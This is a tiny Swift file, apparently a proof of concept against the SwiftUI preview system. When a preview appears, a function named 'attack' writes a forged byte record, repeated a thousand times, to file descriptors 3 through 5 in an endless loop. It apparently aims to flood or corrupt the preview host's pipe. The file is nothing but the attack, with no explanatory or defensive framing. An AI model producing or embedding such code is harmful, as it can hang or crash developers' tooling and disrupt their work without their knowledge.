import SwiftUI

// Ends with 3: pipe

func attack() {
  // A record that is in order, again and again: a list of no previews.
  let record: [UInt8] = [5, 2, 0, 0, 0] + Array("[]".utf8)
  let many = Array(repeating: record, count: 1000).flatMap { $0 }
  while true { for number in 3..<6 { write(Int32(number), many, many.count) } }
}

#Preview {
  Text("still here").onAppear(perform: attack)
}
